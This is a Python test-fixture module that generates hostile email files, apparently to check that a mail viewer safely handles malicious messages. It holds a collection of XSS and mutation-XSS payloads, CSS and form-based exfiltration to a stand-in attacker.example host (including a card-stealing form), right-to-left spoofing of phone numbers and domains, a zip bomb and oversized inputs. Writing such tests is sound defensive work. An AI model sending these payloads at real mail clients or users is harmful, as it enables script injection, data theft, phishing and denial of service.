"""Mails that attack whoever looks at them."""

import email
import email.policy
import io
import zipfile
from email.message import EmailMessage

SCRIPT = "document.title='hacked';window.hacked=1;top.hacked=1;parent.document.title='hacked';alert(1)"
REMOTE = "https://attacker.example"

HTML = {
    "scripts": f"""<h1>Invoice</h1><script>{SCRIPT}</script><img src=x onerror="{SCRIPT}"><body onload="{SCRIPT}">
        <a href="javascript:{SCRIPT}">Pay now</a><details open ontoggle="{SCRIPT}">x</details>
        <video><source onerror="{SCRIPT}"></video><p onmouseover="{SCRIPT}" onfocus="{SCRIPT}" tabindex=0 autofocus>Call us</p>""",
    "svg": f"""<p>Invoice</p><svg onload="{SCRIPT}"><script>{SCRIPT}</script><image href="{REMOTE}/a.png"/>
        <foreignObject><iframe src="{REMOTE}"></iframe></foreignObject><a href="javascript:{SCRIPT}"><text y="20">Go</text></a></svg>
        <img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">""",
    "base and refresh": f"""<head><base href="{REMOTE}/"><meta http-equiv="refresh" content="0;url={REMOTE}/gone">
        <link rel="stylesheet" href="{REMOTE}/s.css"><link rel="preload" as="image" href="{REMOTE}/p.png"></head><p>Invoice</p><a href="next">Next</a>""",
    "style sheets": f"""<style>@import url({REMOTE}/i.css); body{{background:url({REMOTE}/b.png)}}
        input[value^=a]{{background:url({REMOTE}/leak)}}@font-face{{font-family:x;src:url({REMOTE}/f.woff)}}p{{font-family:x}}</style>
        <p style="background:url({REMOTE}/c.png);position:fixed;inset:0;z-index:9999">Invoice</p>
        <p style="background-image:\\75\\72\\6c({REMOTE}/d.png)">x</p><table background="{REMOTE}/t.png"><tr><td>x</td></tr></table>""",
    "forms and frames": f"""<form action="{REMOTE}/steal" method="post"><input name="card" autofocus><button formaction="{REMOTE}/b">Send</button></form>
        <iframe src="{REMOTE}"></iframe><iframe srcdoc="<script>{SCRIPT}</script>"></iframe><object data="{REMOTE}/o"></object><embed src="{REMOTE}/e"><frameset><frame src="{REMOTE}/f"></frameset>""",
    "pictures": f"""<img src="{REMOTE}/pixel.gif" srcset="{REMOTE}/2x.gif 2x" alt="Logo"><picture><source srcset="{REMOTE}/w.webp"><img src="//attacker.example/i.png"></picture>
        <input type=image src="{REMOTE}/n.png"><video poster="{REMOTE}/v.png" src="{REMOTE}/v.mp4" autoplay></video><audio src="{REMOTE}/a.mp3" autoplay></audio>""",
    "breaking out": f"""<p>x</p></body></html>"><script>{SCRIPT}</script>' onload='{SCRIPT}' <!--><img src=x onerror="{SCRIPT}">-->
        <noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>
        <textarea></textarea><img src=x onerror="{SCRIPT}"></textarea><title></title><script>{SCRIPT}</script></title><xmp></xmp><script>{SCRIPT}</script></xmp>""",
    "right to left": "<p>Call +1 \u202e6875-793-308\u202c now, or go to <b>\u2066moc.nozama\u2069</b> <bdo dir=rtl>drawkcab</bdo></p>",
    "many links": "".join(f'<a href="https://h{i}.attacker.example/{i}">https://www.amazon.com/{i}</a> ' for i in range(10_000)),
    "deep": "<div>" * 20_000 + "Call us" + "</div>" * 20_000,
}


def message(html):
    mail = EmailMessage()
    mail["From"] = "\"Amazon <script>alert(1)</script>\" <x@attacker.example>"
    mail["To"] = "me@example.org"
    mail["Subject"] = "Order </title><script>alert(1)</script> \u202eevil"
    mail.set_content("Order. Call us.")
    mail.add_alternative(html, subtype="html")
    return mail


def zip_bomb():
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.txt", b"0" * (200 << 20))
    mail = message("<p>Your invoice is attached. Call +1 803 555 0142.</p>")
    mail.add_attachment(inner.getvalue(), maintype="application", subtype="zip", filename="invoice.zip")
    return mail


def mails(folder):
    """Each with its name, written to `folder`."""
    for name, html in HTML.items():
        yield name, write(folder, name, bytes(message(html)))
    yield "zip bomb", write(folder, "zip bomb", bytes(zip_bomb()))
    yield "no mail", write(folder, "no mail", bytes(range(256)) * 64, ".bin")
    yield "a program", write(folder, "a program", b"MZ\x90\0\x03\0\0\0" + bytes(4096), ".exe")
    yield "too long", write(folder, "too long", b"x" * (100 << 20))


def write(folder, name, data, ending=".eml"):
    path = folder / f"hostile-{name.replace(' ', '-')}{ending}"
    path.write_bytes(data)
    return path


def attachment(examples, name, folder):
    """The first attachment of an example, as a reader would have it as a file."""
    source = {"picture.png": "attachments/picture-png.eml", "message.msg": "mail/nested-outlook-msg.eml"}[name]
    mail = email.message_from_bytes((examples / source).read_bytes(), policy=email.policy.default)
    part = next(it for it in mail.iter_attachments() if isinstance(it.get_content(), bytes))
    path = folder / name
    path.write_bytes(part.get_content())
    return path
